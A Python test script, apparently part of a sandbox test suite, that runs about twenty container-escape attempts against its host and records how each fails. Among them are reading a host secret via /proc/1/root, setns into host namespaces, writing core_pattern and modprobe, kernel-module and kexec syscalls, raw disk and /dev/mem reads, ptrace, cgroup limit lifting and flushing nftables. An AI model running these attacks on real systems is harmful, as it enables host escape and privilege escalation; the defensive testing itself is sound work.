"""
What a hostile server tries against its host; standard library only, since it runs inside.

    python3 attacker.py RESULT.json SECRET SOCKET

SECRET is a file and SOCKET a listening Unix socket of the host. The result says of each attack how
it failed, or DONE.
"""

# ruff: noqa: BLE001, TRY300 - an attack that fails by whatever it is has failed

from __future__ import annotations

import ctypes
import json
import os
import socket
import stat
import subprocess
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path

NEWUSER, NEWNS, NEWNET, NEWPID = 0x10000000, 0x00020000, 0x40000000, 0x20000000
SYSTEM_CALLS = {"init_module": 175, "kexec_load": 246}  # x86-64
PTRACE_ATTACH = 16
BIND, REMOUNT = 4096, 32
DETACH = 2
libc = ctypes.CDLL(None, use_errno=True)


def call(name: str, *arguments: object) -> None:
    if getattr(libc, name)(*arguments) != 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), name)


def system_call(name: str) -> None:
    call("syscall", SYSTEM_CALLS[name], 0, 0, 0)


def write(path: str, text: str) -> None:
    Path(path).write_text(text)


def in_child(attack: Callable[[], None]) -> None:
    """What changes the process is done in one of its own."""
    reads, writes = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            attack()
            os.write(writes, b"")
        except BaseException as error:
            os.write(writes, repr(error).encode() or b"?")
        os._exit(0)
    os.close(writes)
    os.waitpid(child, 0)
    with os.fdopen(reads) as told:
        said = told.read()
    if said:
        raise OSError(said)


def uncover() -> None:
    """Take away the server's own mounts, to see what they hide."""
    call("unshare", NEWUSER | NEWNS)
    call("umount2", b"/srv", DETACH)


def remount() -> None:
    call("unshare", NEWUSER | NEWNS)
    call("mount", None, b"/", None, BIND | REMOUNT, None)


def enter(kind: str) -> None:
    """Enter a namespace of the host's first process, if that can be seen."""
    own = Path(f"/proc/self/ns/{kind}").stat().st_ino
    for file in (*Path("/proc").glob(f"[0-9]*/ns/{kind}"), *Path("/run/netns").glob("*")):
        descriptor = os.open(file, os.O_RDONLY)
        if os.fstat(descriptor).st_ino != own:
            call("setns", descriptor, 0)
            return
    raise OSError("no namespace of the host is seen")


def mount_fresh() -> None:
    folder = tempfile.mkdtemp()
    call("mount", b"proc", folder.encode(), b"proc", 0, None)
    write(f"{folder}/sys/kernel/core_pattern", "|/bin/false")


def disk() -> None:
    for major, minor in ((254, 0), (253, 0), (8, 0), (259, 0)):
        path = f"{tempfile.mkdtemp()}/disk"
        os.mknod(path, 0o600 | stat.S_IFBLK, os.makedev(major, minor))
        try:
            with Path(path).open("rb") as device:
                device.read(512)
            return
        except OSError as error:
            last = error
    raise last


def kernel_memory() -> None:
    for path in ("/dev/mem", "/proc/kcore", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/nvme0n1"):
        try:
            with Path(path).open("rb") as file:
                file.read(1)
            return
        except OSError as error:
            last = error
    raise last


def trace_others() -> None:
    """Attach to the process that runs these tests."""
    for entry in Path("/proc").glob("[0-9]*"):
        if "pytest" in (entry / "cmdline").read_text():
            call("ptrace", PTRACE_ATTACH, int(entry.name), None, None)
            return
    raise OSError("no process of the host is seen")


def more_cpu() -> None:
    found = 0
    for name in ("cpu.cfs_quota_us", "cpu.max", "memory.max", "memory.limit_in_bytes", "pids.max"):
        for file in Path("/sys/fs/cgroup").rglob(name):
            found += 1
            try:
                value = "max" if name.endswith("max") else "-1"
                file.write_text(value)
                return
            except OSError as error:
                last = error
    raise last if found else OSError("no control group is seen")


def run(*words: str) -> Callable[[], None]:
    def attack() -> None:
        done = subprocess.run(words, capture_output=True, text=True, check=False)
        if done.returncode:
            raise OSError(done.stderr.strip())

    return attack


def connect(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(2)
        client.connect(path)


def raw(family: int) -> None:
    socket.socket(family, socket.SOCK_RAW, 1).close()


def read_secret(secret: str) -> None:
    for path in (secret, f"/proc/1/root{secret}", f"/proc/1/cwd/../../../../..{secret}"):
        try:
            Path(path).read_text()
            return
        except OSError as error:
            last = error
    raise last


def attacks(secret: str, host_socket: str) -> dict[str, Callable[[], None]]:
    return {
        "read a secret of the host": lambda: read_secret(secret),
        "change a file of the host": lambda: write(secret, "stolen"),
        "connect to a socket of the host": lambda: connect(host_socket),
        "uncover what own mounts hide": lambda: in_child(uncover),
        "make the file system writable": lambda: in_child(remount),
        "enter the host's network": lambda: in_child(lambda: enter("net")),
        "enter the host's mounts": lambda: in_child(lambda: enter("mnt")),
        "make a network": lambda: in_child(lambda: call("unshare", NEWNET)),
        "set core_pattern": lambda: write("/proc/sys/kernel/core_pattern", "|/bin/false"),
        "set core_pattern in a fresh proc": lambda: in_child(mount_fresh),
        "set modprobe": lambda: write("/proc/sys/kernel/modprobe", "/bin/false"),
        "use sysrq": lambda: write("/proc/sysrq-trigger", "h"),
        "load a module": lambda: system_call("init_module"),
        "load a kernel": lambda: system_call("kexec_load"),
        "open the disk": disk,
        "read the kernel's memory": kernel_memory,
        "trace a process of the host": lambda: in_child(trace_others),
        "lift its own limits": more_cpu,
        "open a raw socket": lambda: raw(socket.AF_INET),
        "open a packet socket": lambda: raw(socket.AF_PACKET),
        "take another's address": run("ip", "addr", "add", "198.18.0.9/32", "dev", "eth0"),
        "flush the packet filter": run("/usr/sbin/nft", "flush", "ruleset"),
    }


def main() -> None:
    result, secret, host_socket = sys.argv[1:4]
    told = {"user": str(os.geteuid())}
    for name, attack in attacks(secret, host_socket).items():
        try:
            attack()
        except Exception as error:
            told[name] = repr(error)
        else:
            told[name] = "DONE"
    Path(f"{result}.new").write_text(json.dumps(told))
    Path(f"{result}.new").rename(result)


if __name__ == "__main__":
    main()
